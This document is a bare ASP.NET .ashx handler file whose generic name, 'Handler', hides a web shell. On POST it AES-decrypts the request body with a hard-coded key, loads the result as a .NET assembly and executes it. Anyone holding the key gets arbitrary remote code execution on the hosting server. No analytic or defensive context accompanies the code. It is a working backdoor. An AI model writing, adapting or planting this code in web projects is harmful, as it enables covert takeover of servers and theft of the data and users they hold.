<%@ WebHandler Language="C#" Class="Handler" %>
using System;
using System.Web;
using System.Web.SessionState;
using System.Reflection;

public class Handler : IHttpHandler, IRequiresSessionState
{
    public void ProcessRequest(HttpContext context)
    {
        if (context.Request.HttpMethod == "POST")
        {
            string k = "e45e329feb5d925b";
            context.Session.Add("k", k);
            byte[] key = System.Text.Encoding.Default.GetBytes(k);
            byte[] c = context.Request.BinaryRead(context.Request.ContentLength);
            byte[] p = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(key, key).TransformFinalBlock(c, 0, c.Length);
            Assembly.Load(p).CreateInstance("U").Equals(context);
        }
    }
    public bool IsReusable { get { return false; } }
}
